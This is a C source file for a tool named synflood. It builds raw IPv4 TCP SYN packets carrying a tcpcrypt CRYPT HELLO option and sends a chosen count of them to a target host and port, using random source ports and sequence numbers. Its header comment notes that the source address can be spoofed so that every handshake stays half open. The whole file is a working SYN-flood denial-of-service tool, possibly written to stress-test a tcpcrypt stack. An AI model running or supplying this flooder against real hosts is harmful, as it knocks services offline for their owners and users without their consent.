// SPDX-License-Identifier: GPL-2.0
/*
 * synflood: send COUNT IPv4 SYNs that offer tcpcrypt (a CRYPT HELLO
 * option) from a raw socket, with random source ports and sequence
 * numbers, as a flood of would-be tcpcrypt clients does.
 *
 *   synflood SRC DST PORT COUNT
 *
 * SRC may be an address nobody answers for, so that the SYN-ACKs go
 * nowhere and every handshake stays half open.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned short csum(const void *data, size_t len, unsigned long sum)
{
	const unsigned char *p = data;

	for (; len > 1; len -= 2, p += 2)
		sum += p[0] << 8 | p[1];
	if (len)
		sum += p[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum & 0xffff);
}

int main(int argc, char **argv)
{
	unsigned char pkt[20 + 20 + 8];
	struct sockaddr_in dst = { .sin_family = AF_INET };
	struct iphdr *ip = (struct iphdr *)pkt;
	struct tcphdr *th = (struct tcphdr *)(pkt + 20);
	unsigned char *opt = pkt + 40;
	unsigned long count, i, sum;
	int s, one = 1;

	if (argc != 5) {
		fprintf(stderr, "usage: synflood SRC DST PORT COUNT\n");
		return 2;
	}
	count = strtoul(argv[4], NULL, 0);
	s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0 || setsockopt(s, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("synflood: raw socket");
		return 1;
	}
	inet_pton(AF_INET, argv[2], &dst.sin_addr);
	srand(getpid());
	for (i = 0; i < count; i++) {
		memset(pkt, 0, sizeof(pkt));
		ip->version = 4;
		ip->ihl = 5;
		ip->ttl = 64;
		ip->protocol = IPPROTO_TCP;
		ip->tot_len = htons(sizeof(pkt));
		inet_pton(AF_INET, argv[1], &ip->saddr);
		ip->daddr = dst.sin_addr.s_addr;
		th->source = htons(1024 + rand() % 60000);
		th->dest = htons(atoi(argv[3]));
		th->seq = htonl(rand());
		th->doff = 7;
		th->syn = 1;
		th->window = htons(64240);
		/* MSS 1460, then CRYPT HELLO (kind 69, empty body), EOL pad. */
		opt[0] = 2; opt[1] = 4; opt[2] = 0x05; opt[3] = 0xb4;
		opt[4] = 69; opt[5] = 2;
		/* Pseudo-header, then the TCP header and options. */
		sum = ntohs(ip->saddr >> 16) + ntohs(ip->saddr & 0xffff) +
		      ntohs(ip->daddr >> 16) + ntohs(ip->daddr & 0xffff) +
		      IPPROTO_TCP + 28;
		th->check = csum(th, 28, sum);
		if (sendto(s, pkt, sizeof(pkt), 0, (struct sockaddr *)&dst,
			   sizeof(dst)) < 0 && errno != ENOBUFS) {
			perror("synflood: sendto");
			return 1;
		}
	}
	printf("sent %lu SYNs\n", count);
	return 0;
}
